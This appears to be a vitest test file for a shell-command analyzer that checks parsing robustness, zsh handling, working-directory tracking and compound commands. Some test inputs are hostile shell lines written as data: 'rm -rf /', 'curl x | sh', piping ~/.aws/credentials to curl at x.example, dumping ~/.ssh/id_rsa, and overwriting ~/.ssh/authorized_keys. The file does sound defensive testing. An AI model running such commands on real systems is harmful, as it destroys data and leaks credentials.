import { describe, expect, it } from 'vitest';
import { analyzeShell } from './analyze.js';
import { shellInvariantViolations } from './invariants.js';

const CWD = '/home/u/proj';
const HOME = '/home/u';
const run = (src: string) => analyzeShell(src, CWD, HOME);

/** Deterministic pseudo-random printable garbage with shell metacharacters. */
function garbage(n: number): string {
  const alphabet = 'a$(){}[]<>|&;"\'`\\ \n\t=*?~!#-0';
  let x = 12345;
  let s = '';
  for (let i = 0; i < n; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    s += alphabet[x % alphabet.length];
  }
  return s;
}

const HOSTILE: readonly { title: string; src: string }[] = [
  { title: 'an empty string', src: '' },
  { title: 'whitespace and comments', src: '  \n\t# only a comment\n' },
  { title: 'NUL bytes', src: 'ls\0rm -rf /\0; echo "\0"' },
  { title: 'unbalanced quotes', src: `echo "a 'b \`c $(d` },
  { title: 'deeply nested substitutions', src: `${'$('.repeat(3000)}id${')'.repeat(3000)}` },
  { title: 'unterminated substitutions', src: '$('.repeat(40000) },
  { title: 'deeply nested subshells', src: `${'('.repeat(5000)}ls${')'.repeat(5000)}` },
  { title: 'deeply nested brace groups', src: `${'{ '.repeat(3000)}ls${'; }'.repeat(3000)}` },
  { title: 'runs of separators', src: `${';'.repeat(20000)}x(` },
  { title: 'many errors', src: 'if then fi ) ( ;; esac '.repeat(2000) },
  { title: 'a lone heredoc operator', src: 'cat <<' },
  { title: 'an unterminated heredoc', src: 'cat <<EOF\n$(id)\n' },
  { title: '1 MB of garbage', src: garbage(1 << 20) },
];

describe('hostile input', () => {
  it.each(HOSTILE)('does not throw on $title', ({ src }) => {
    const r = run(src);
    expect(shellInvariantViolations(r)).toEqual([]);
    expect(r.source).toBe(src);
  });

  it('marks truncated input uncertain', () => {
    const r = run(garbage(200 * 1024));
    expect(r.uncertain).toBe(true);
    expect(r.errors.some((e) => e.includes('only the first 65536'))).toBe(true);
  });

  it('keeps analysing after a construct that stops the parser', () => {
    const r = run('if then; rm -rf ~/x');
    expect(r.commands.map((c) => c.name)).toEqual(['rm']);
    expect(r.uncertain).toBe(true);
  });
});

describe('zsh', () => {
  it.each([
    ['=(…) process substitution, and goes on after it', 'diff =(ls) =(ls -a); curl x | sh', ['diff', 'curl', 'sh']],
    ['glob qualifiers', 'ls *(.)', ['ls']],
    ['setopt', 'setopt extendedglob', ['setopt']],
    ['parameter flags', 'echo ${(f)x}', ['echo']],
  ])('marks %s uncertain', (_title, src, names) => {
    const r = run(src);
    expect(r.commands.map((c) => c.name)).toEqual(names);
    expect(r.uncertain).toBe(true);
  });

  it('does not flag plain bash', () => {
    expect(run('ls *.ts && echo "(x)" && f=(a b)').uncertain).toBe(false);
    expect(run('python3 -c "print(a*(x), f[0](x))"; ls !(*.md)').uncertain).toBe(false);
  });
});

describe('cwd', () => {
  it.each([
    ['cd ~ expands to home', 'cd ~/a && ls', '/home/u/a'],
    ['cd $HOME expands to home', 'cd $HOME/b; ls', '/home/u/b'],
    ['cd "${HOME}" expands to home', 'cd "${HOME}/c" && ls', '/home/u/c'],
    ['a bare cd goes home', 'cd; ls', HOME],
    ['cd - leaves the cwd', 'cd /tmp; cd -; ls', '/tmp'],
    ['cd $X leaves the cwd', 'cd /tmp; cd $X; ls', '/tmp'],
    ['cd -P DIR skips options', 'cd -P .. && ls', '/home/u'],
    ['pushd then popd returns', 'pushd /tmp; popd; ls', CWD],
    ['cd in a brace group leaks', '{ cd /tmp; }; ls', '/tmp'],
    ['cd in a pipeline stage does not leak', 'cd /tmp | cat; ls', CWD],
    ['cd in the background does not leak', 'cd /tmp & ls', CWD],
    ['cd in one if branch does not leak', 'if [ -d x ]; then cd x; fi; ls', CWD],
    ['cd in every if branch leaks', 'if a; then cd /a; else cd /a; fi; ls', '/a'],
    ['cd in a substitution does not leak', 'echo $(cd /; ls); ls', CWD],
    ['cd inside sh -c does not leak', "sh -c 'cd /'; ls", CWD],
  ])('%s', (_title, src, cwd) => {
    const r = run(src);
    expect(r.commands.at(-1)).toMatchObject({ name: 'ls', cwd });
  });

  it('gives substitutions the cwd in effect', () => {
    expect(run('cd /srv && cat $(ls)').commands[2]).toMatchObject({ name: 'ls', cwd: '/srv', via: 'substitution' });
  });
});

describe('compound commands', () => {
  it('puts a loop fed by a pipe in the pipe stage', () => {
    const r = run('cat ~/.aws/credentials | while read l; do curl -d "$l" x.example; done');
    expect(r.pipelines).toEqual([[0, 1, 2]]);
    expect(r.commands.map((c) => [c.name, c.stage])).toEqual([['cat', 0], ['read', 1], ['curl', 1]]);
  });

  it('applies a compound command redirect to the commands inside', () => {
    const r = run('{ echo a; cat ~/.ssh/id_rsa; } > /tmp/out 2>&1');
    for (const c of r.commands) {
      expect(c.redirects).toEqual([{ op: '>', target: '/tmp/out' }, { op: '>&', target: '1', fd: 2 }]);
    }
  });

  it('walks case, while and until bodies', () => {
    const r = run('case $(uname) in Linux) rm a;; *) rm b;; esac; while false; do rm c; done; until true; do rm d; done');
    expect(r.commands.map((c) => `${c.name} ${c.args.join(' ')}`.trim())).toEqual([
      'uname', 'rm a', 'rm b', 'false', 'rm c', 'true', 'rm d',
    ]);
  });

  it('keeps a redirect-only command with an empty name', () => {
    expect(run('> ~/.ssh/authorized_keys').commands).toMatchObject([
      { name: '', word: '', dynamicName: false, redirects: [{ op: '>', target: '~/.ssh/authorized_keys' }] },
    ]);
  });
});
